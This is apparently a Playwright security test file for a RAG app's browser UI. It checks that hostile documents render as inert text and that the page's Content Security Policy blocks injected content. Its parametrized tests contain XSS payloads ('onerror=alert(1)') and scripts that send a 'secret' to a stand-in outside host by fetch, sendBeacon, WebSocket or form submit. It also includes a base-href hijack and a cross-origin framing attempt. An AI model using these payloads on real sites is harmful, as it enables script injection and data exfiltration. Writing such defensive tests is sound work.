"""Hostile documents through the real pipeline into a real browser: all of it is text, nothing runs, nothing leaves.

And what the browser is told holds: the page needs nothing that its policy forbids, and what is planted in it is dead.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from rag import Rag, Settings
from tests.ui.browser import ARGUMENTS, CHROMIUM, needs_chromium
from tests.ui.fakes import LEAVE, FakeRag, free_port
from tests.ui.hostile import ABROAD, ATTACKS, HOSTILE_NAMES, LEFT_OUT, Hostile, write

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is missing; run: make test")
pytestmark = [pytest.mark.real, needs_chromium]
# Where things are in the page.
QUESTION = "#question textarea"
EXCHANGE = ".exchange"
DONE = ".exchange.done"
FOOTNOTE = ".footnote"
PASSAGE = "#sources .passage"
CONVERSATION = "#conversation"
LEFT_OUT_LIST = "#stands details"
DRAWN = f"{CONVERSATION}, #sources, #shelf, #stands, #library, #peek"
NEW_CHAT = "#new-chat"
OF_A_DOCUMENT = (
    "script, img, iframe, frame, object, embed, svg, math, form, input, textarea, style, link, meta, base, body, "
    "video, audio, source, animate, [src], [srcdoc], [action], [formaction], [name], h1, a:not([href^='#'])"
)
"""We draw none of these but `OURS`, so whatever of them is found came out of a document."""
OURS = "#library input[type=checkbox], #library datalist, #library [type=button], h2[dir]"
AT_ONCE = 20
"""Questions in one conversation: a long one is sent anew with every sentence."""
MISSED_AT_MOST = 4
"""Documents that their question does not bring up; the search is not what is tested here."""
WATCH = """
window.ran = []; window.violations = [];
window.alert = text => { window.ran.push(text); };
document.addEventListener("securitypolicyviolation", event => {
    window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`);
});
"""
PASSWORD = "correct horse battery staple"


class Watched:
    """A tab that notes whatever it is not to do."""

    def __init__(self, browser: Any, url: str) -> None:
        self.url = url
        self.context = browser.new_context(viewport={"width": 1_440, "height": 900})
        self.context.add_init_script(WATCH)
        self.page = self.context.new_page()
        self.noted: list[str] = []
        self.opened = False
        self.page.on("request", lambda request: self._requested(request.url))
        self.page.on("dialog", lambda dialog: (self.noted.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("pageerror", lambda error: self.noted.append(f"error {error}"))
        self.page.on("console", lambda said: self._said(said.type, said.text))
        self.page.on("popup", lambda popup: self.noted.append(f"popup {popup.url}"))

    def _requested(self, address: str) -> None:
        if not address.startswith((self.url, "data:")):
            self.noted.append(f"request {address}")

    def _said(self, kind: str, text: str) -> None:
        if kind == "error" or "Content Security Policy" in text:
            self.noted.append(f"console {text}")

    def open(self) -> None:
        self.page.goto(self.url)
        self.page.locator(QUESTION).wait_for()

    def ask(self, question: str) -> None:
        before = self.page.locator(EXCHANGE).count()
        self.page.locator(QUESTION).fill(question)
        self.page.locator(QUESTION).press("Enter")
        self.page.locator(f"{EXCHANGE}:nth-child({before + 1})").and_(self.page.locator(DONE)).wait_for()

    def start_over(self) -> None:
        self.page.locator(NEW_CHAT).click()
        self.page.wait_for_function("selector => !document.querySelector(selector)", arg=EXCHANGE)

    def read(self) -> str:
        """The newest exchange, and the source of its first footnote in the panel."""
        newest = self.page.locator(EXCHANGE).last
        if not newest.locator(FOOTNOTE).count():
            return str(newest.text_content())
        before = self.page.locator("#sources .source").get_attribute("data-turn") if self.opened else None
        newest.locator(FOOTNOTE).first.click()
        self.page.locator(f"#sources .source:not([data-turn='{before}'])").wait_for()
        self.opened = True
        return f"{newest.text_content()} {self.page.locator('#sources').text_content()}"

    def list_documents(self) -> str:
        """The tab of the documents, with everything in it open."""
        self.page.get_by_role("tab", name="Documents").click()
        self.page.locator("#library tbody tr").first.wait_for()
        self.page.locator("#library details").evaluate_all("all => all.forEach(one => { one.open = true; })")
        return str(self.page.locator("#library").text_content())

    def check(self) -> None:
        """Nothing ran, nothing was asked abroad, nothing of a document became an element."""
        assert self.page.evaluate("[window.ran, window.violations]") == [[], []]
        assert self.noted == []
        assert len(self.page.frames) == 1 and self.page.url.partition("#")[0] == self.url
        foreign = (
            self.page.locator(DRAWN)
            .locator(OF_A_DOCUMENT)
            .evaluate_all("(all, ours) => all.filter(a => !a.matches(ours)).map(a => a.outerHTML)", OURS)
        )
        assert foreign == []
        handlers = self.page.locator(f":is({DRAWN}) *").evaluate_all(
            "all => all.flatMap(one => one.getAttributeNames()).filter(name => name.startsWith('on'))"
        )
        assert handlers == []


def plain(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as driver:
        opened = driver.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield opened
        opened.close()


@pytest.fixture
def hostile_page(tmp_path: Path) -> Iterator[tuple[list[Hostile], str]]:
    """The page over all hostile documents, indexed by the real pipeline; only the wording model is left out."""
    from ui.app import serve

    written = write(tmp_path / "docs")
    settings = Settings(home=tmp_path / "home", phrase="never", refuse_below=0)
    with Rag.open(tmp_path / "docs", settings=settings) as rag:
        port = free_port()
        page = serve(rag, port=port)
        yield written, f"http://127.0.0.1:{port}/"
        page.close(verbose=False)


@pytest.fixture(scope="module")
def page(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    from ui.app import serve

    port = free_port()
    served = serve(FakeRag(home=tmp_path_factory.mktemp("home")), port=port)
    yield f"http://127.0.0.1:{port}/"
    served.close(verbose=False)


def test_whatever_documents_hold_and_are_called_is_text(browser: Any, hostile_page: tuple[list[Hostile], str]) -> None:
    written, url = hostile_page
    assert len(ATTACKS) + len(HOSTILE_NAMES) >= 40 and len(written) >= len(ATTACKS)
    tab = Watched(browser, url)
    tab.open()
    missed = []
    for start in range(0, len(written), AT_ONCE):
        for document in written[start : start + AT_ONCE]:
            tab.ask(document.question)
            if plain(document.attack) not in plain(tab.read()):
                missed.append(document.name)
        tab.page.locator(FOOTNOTE).first.hover()
        tab.check()
        tab.start_over()
    assert len(missed) <= MISSED_AT_MOST, missed
    left_out = plain(tab.page.locator(LEFT_OUT_LIST).text_content())
    for name in HOSTILE_NAMES:
        if name.endswith(LEFT_OUT[:2]):
            assert name in left_out
    assert tab.page.locator(f"{LEFT_OUT_LIST} :is(script, img, svg, i, b)").count() == 0
    listed = plain(tab.list_documents())
    shown = sum(plain(name) in listed for name in HOSTILE_NAMES)
    assert shown >= len(HOSTILE_NAMES) / 4  # the others are on the next page
    tab.check()
    tab.context.close()


def test_the_page_asks_nobody_else_and_breaks_no_rule_of_its_own(browser: Any, page: str) -> None:
    tab = Watched(browser, page)
    tab.open()
    tab.ask(LEAVE)
    tab.page.locator(FOOTNOTE).first.click()
    tab.page.locator(PASSAGE).wait_for()
    tab.list_documents()
    tab.start_over()
    tab.ask(LEAVE)
    tab.page.wait_for_timeout(2_500)  # longer than the page waits between two looks at the status
    tab.check()
    tab.context.close()


@pytest.mark.parametrize(
    ("planted", "forbidden"),
    [
        ("<img src=x onerror=alert(1)>", "script-src-attr"),
        (f"<img src={ABROAD}/x.png>", "img-src"),
        ("<svg onload=alert(1)>", "script-src-attr"),
        (f"<iframe src={ABROAD}/></iframe>", "frame-src"),
        (f"<link rel=stylesheet href={ABROAD}/x.css>", "style-src"),
        (f"<style>@import '{ABROAD}/y.css'</style>", "style-src"),
        (f"<style>body {{ background: url({ABROAD}/b.png) }}</style>", "img-src"),
        (f"<object data={ABROAD}/o></object>", "object-src"),
        (f"<video src={ABROAD}/v.mp4></video>", "media-src"),
    ],
)
def test_markup_that_got_into_the_page_would_be_dead(browser: Any, page: str, planted: str, forbidden: str) -> None:
    tab = Watched(browser, page)
    tab.open()
    tab.page.evaluate(
        "([to, what]) => document.querySelector(to).insertAdjacentHTML('beforeend', what)", [CONVERSATION, planted]
    )
    tab.page.wait_for_function("window.violations.length > 0", timeout=5_000)
    assert tab.page.evaluate("window.violations")[0].startswith(forbidden)
    assert tab.page.evaluate("window.ran") == []
    tab.context.close()


@pytest.mark.parametrize(
    "planted",
    [
        "const s = document.createElement('script'); s.textContent = 'alert(1)'; document.body.append(s)",
        f"const s = document.createElement('script'); s.src = '{ABROAD}/x.js'; document.body.append(s)",
        "const b = document.querySelector('base'); "
        f"b.insertAdjacentHTML('beforebegin', '<base href={ABROAD}/>'); b.remove()",
        f"fetch('{ABROAD}/?secret').catch(() => {{}})",
        f"navigator.sendBeacon('{ABROAD}/', 'secret')",
        f"new WebSocket('{ABROAD.replace('http', 'ws')}/')",
        f"const f = document.createElement('form'); f.action = '{ABROAD}/'; document.body.append(f); f.submit()",
    ],
)
def test_a_script_that_got_into_the_page_could_send_nothing_away(browser: Any, page: str, planted: str) -> None:
    tab = Watched(browser, page)
    tab.open()
    tab.page.evaluate(f"() => {{ {planted} }}")
    tab.page.wait_for_function("window.violations.length > 0", timeout=5_000)
    assert tab.page.evaluate("window.ran") == []
    assert tab.page.url.partition("#")[0] == page
    tab.context.close()


def test_another_site_can_neither_frame_nor_ask_nor_read_the_page(browser: Any, page: str, tmp_path: Path) -> None:
    import http.server
    import threading

    (tmp_path / "index.html").write_text(
        f"""<iframe src="{page}"></iframe><img src="{page}favicon.ico"><script>
        window.got = [];
        for (const path of ["config", "gradio_api/heartbeat/x", "theme.css"])
            fetch("{page}" + path, {{credentials: "include"}}).then(() => got.push("read"), () => got.push("no"));
        fetch("{page}gradio_api/queue/join", {{method: "POST", mode: "no-cors", body: "{{}}"}})
            .then(() => got.push("opaque"), () => got.push("no"));
        </script>""",
        encoding="utf-8",
    )

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *given: Any) -> None:
            super().__init__(*given, directory=str(tmp_path))

        def log_message(self, *_: object) -> None:
            """Quiet."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler) as other:
        threading.Thread(target=other.serve_forever, daemon=True).start()
        context = browser.new_context()
        tab = context.new_page()
        answers: dict[str, int] = {}
        tab.on("response", lambda answer: answers.update({answer.url.removeprefix(page): answer.status}))
        tab.goto(f"http://127.0.0.1:{other.server_address[1]}/")
        tab.wait_for_function("window.got.length === 4")
        tab.wait_for_timeout(500)
        assert sorted(tab.evaluate("window.got")) in (["no"] * 4, ["no", "no", "no", "opaque"])
        assert {status for path, status in answers.items() if not path.startswith("http")} <= {403}
        assert "Footnote" not in tab.frames[-1].content()
        context.close()
        other.shutdown()


def test_a_password_is_asked_for_once_and_the_page_works_behind_it(browser: Any, tmp_path: Path) -> None:
    from ui.app import serve

    port = free_port()
    served = serve(FakeRag(home=tmp_path), host="0.0.0.0", port=port, password=PASSWORD)
    try:
        tab = Watched(browser, f"http://127.0.0.1:{port}/")
        tab.page.goto(tab.url)
        box = tab.page.get_by_label("Password")
        for guess in ("not the password", PASSWORD):
            box.fill(guess)
            box.press("Enter")
        tab.page.locator(QUESTION).wait_for()
        tab.noted.clear()  # the form's 401
        tab.ask(LEAVE)
        tab.check()
        tab.page.reload()
        tab.page.locator(DONE).wait_for()
        tab.noted.clear()  # what was still streaming when the page was left says so
        tab.ask(LEAVE)
        tab.check()
        assert tab.page.evaluate("document.cookie") == ""
        tab.context.clear_cookies()
        tab.page.reload()
        tab.page.get_by_label("Password").wait_for()
        tab.context.close()
    finally:
        served.close(verbose=False)
